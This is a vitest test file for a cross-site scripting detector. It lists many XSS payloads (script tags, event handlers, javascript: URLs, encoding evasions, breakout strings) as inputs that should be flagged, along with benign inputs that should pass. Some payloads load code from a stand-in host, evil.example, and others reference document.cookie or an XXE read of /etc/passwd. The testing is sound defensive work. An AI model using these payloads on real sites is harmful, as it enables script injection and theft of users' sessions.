import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Field } from "../../../model/field.ts";
import type { Match } from "../../detector.ts";
import { decodeCharacterReferences } from "./character-references.ts";
import { crossSiteScripting } from "./cross-site-scripting.ts";
import { scanTags, type Tag } from "./html-tokenizer.ts";

function detect(value: string, field: Partial<Field> = {}): Match | undefined {
  return crossSiteScripting.detect({
    location: "body",
    name: "$.text",
    part: "value",
    type: "string",
    value,
    ...field,
  });
}

function isBlocked(value: string, field: Partial<Field> = {}): boolean {
  const confidence = detect(value, field)?.confidence;
  return confidence === "medium" || confidence === "high";
}

describe("markup that runs script", () => {
  test.each([
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/src='//evil.example'>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    '"><script>alert(1)</script>',
    "<!--<script>alert(1)</script>-->",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg\fonload\n=\talert(1)",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x onerror=&#x61;lert(1)",
    "<body onpageshow=x=1>",
    "<x onclick=alert(1)>text",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript&colon;alert(1)">x</a>',
    '<a href=" \x01javas\ncript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<button formaction=javascript:alert(1)>x",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<iframe src=data:text/html,<b>x>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<div style="width: expression(alert(1))">',
    '<div style="width: e\\78 pression/**/(alert(1))">',
    '<p style="background:url(javascript:alert(1))">',
    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    '<a href="feed:javascript:alert(1)">x</a>',
    "<embed src=javascript:alert(1)>",
    "</title><svg onload=alert(1)>",
  ])("is flagged with high confidence: %j", (value) => {
    expect(detect(value)?.confidence).toBe("high");
  });

  test.each([
    "<iframe src=http://evil.example/>",
    "<base href=//evil.example/>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<object type=text/x-scriptlet data=http://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>@import'//evil.example/x.css';</style>",
    "<x onxxx=1",
    '"><script>',
    "<?import namespace=t implementation=#default#time2>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "＜script＞alert(1)＜/script＞",
    "\\x3cscript\\x3ealert(1)",
    '<div style="font-family:foo}color=red;">',
  ])("is stopped: %j", (value) => {
    expect(isBlocked(value)).toBe(true);
  });
});

describe("a value that breaks out of where it was put", () => {
  test.each([
    ["a quoted attribute", '" onmouseover=alert(1) x="'],
    ["an attribute in single quotes", "' autofocus onfocus='alert(1)"],
    ["an unquoted attribute", "x onerror=alert(1)"],
    ["an attribute, with a style", '" style="width:expression(alert(1))'],
    ["a JavaScript string", "';alert(1)//"],
    ["a JavaScript string, within an expression", '"-alert(1)-"'],
    ["an escaped JavaScript string", "\\';alert(1)//"],
    ["a JavaScript string on a new line", "'\n;alert(1)//"],
    ["a template literal", "$" + "{alert(1)}"],
    ["a script element", "</script><script>alert(1)</script>"],
    ["an attribute it ends in", '" onfocus='],
  ])("is stopped: %s", (_where, value) => {
    expect(isBlocked(value)).toBe(true);
  });

  test.each([
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "JaVaScRiPt://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://x.example/?next=javascript:alert(1)",
    "alert(1)",
    "\\u0061lert(1)",
    'top["al"+"ert"](1)',
    "[1].find(alert)",
    "(alert)(1)",
    "a=alert,a(1)",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "document.cookie",
    "fetch`//evil.example`",
    "{{constructor.constructor('alert(1)')()}}",
  ])("is stopped as a whole: %j", (value) => {
    expect(isBlocked(value)).toBe(true);
  });

  test("names the handler and what it runs", () => {
    expect(detect('" onmouseover=alert(1) x="')?.explanation).toContain(
      'event handler "onmouseover"',
    );
  });
});

describe("does not stop", () => {
  test.each([
    '<p>Hello <b>world</b>, see <a href="https://x.example/a?b=c&d=e">this</a>.</p>',
    '<div class="note" style="color: red; font-size: 12px">Note</div>',
    '<img src="https://x.example/a.png" alt="A picture" width="20">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<table><tr><td style="text-align:right">2</td></tr></table>',
    '<iframe width="560" height="315" src="https://video.example/embed/a" allowfullscreen></iframe>',
    "<html><head><style>p { color: red }</style></head><body><p>Hi</p></body></html>",
    '<svg viewBox="0 0 10 10"><use xlink:href="#icon"/><path d="M0 0h10"/></svg>',
    '<a href="javascript:void(0)">more</a>',
    '<?xml version="1.0"?><a b="c">d</a>',
    "line<br>line",
    "a < b > c",
    "if (a < b && c > d) { x = 1; }",
    "List<String> names = new ArrayList<>();",
    "I <3 you",
    "Joe <joe@x.org>",
    "How do I use the `<script>` tag in HTML?",
    "Use the <script> tag to load code in a page.",
    "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    "The onclick attribute runs a function when you click",
    "onboarding=true&online=2",
    "Please confirm (yes/no)",
    "alert (red)",
    "location=Berlin",
    "window shopping, top secret",
    "const a = document.getElementById('x');",
    "javascript: the good parts",
    "data:text/plain;base64,SGVsbG8=",
    "<Button onClick={save}>Save</Button>",
    "He said \"hi\"; she said 'bye'",
    "' or 1=1 --",
    "'a','b','c'",
    "¼ cup sugar, ½ tsp salt",
    "1+ADw",
    '=IF(A1="x","y","z")',
    "body { background: url(a.png) }",
    "",
  ])("%j", (value) => {
    expect(isBlocked(value)).toBe(false);
  });

  test("escaped markup inside of a formatted text, read once more", () => {
    const origin: Field = {
      location: "body",
      name: "$.text",
      part: "value",
      type: "string",
      value: "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    };
    const value = "<code><script>alert(1)</script></code>";
    expect(isBlocked(value, { origin, decoding: "html" })).toBe(false);
  });

  test("a route that is called like a property", () => {
    expect(isBlocked("document.cookie", { location: "path", name: "2" })).toBe(false);
  });
});

describe("reading", () => {
  const markup = fc.string({ unit: fc.constantFrom(..."<>/='\"` \n\0!-a?onx&#;(") });

  test("keeps every tag and attribute inside the value", () => {
    fc.assert(
      fc.property(markup, (value) => {
        scanTags(value, (tag: Tag) => {
          expect(value.charAt(tag.start)).toBe("<");
          expect(tag.end).toBeLessThanOrEqual(value.length);
          for (const attribute of tag.attributes) {
            expect(attribute.start).toBeLessThan(attribute.end);
            expect(attribute.end).toBeLessThanOrEqual(tag.end);
          }
        });
      }),
      { numRuns: 2_000 },
    );
  });

  test("undoes any numeric character reference", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 0x10ffff }), (code) => {
        const char = String.fromCodePoint(code);
        expect(decodeCharacterReferences(`&#${code};`)).toBe(char);
        expect(decodeCharacterReferences(`&#x${code.toString(16)};`)).toBe(char);
      }),
    );
  });

  test("never throws as a detector", () => {
    fc.assert(
      fc.property(markup, (value) => {
        detect(value);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    "<",
    "<a ",
    "<a/b=",
    "<a b='",
    "<a b=\"<c d='",
    "<script",
    "<script>a ",
    "</script>",
    "<iframe ",
    "<style>",
    "<!--",
    "&#x",
    " onx=",
    "onload=",
    "'",
    "';",
    "alert",
    "alert(",
    "\\u0061",
    "/*",
    "+ADw",
    "¼",
    "top[",
    "=",
    "javascript:",
    "word ",
  ])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(6_000);
  });
});
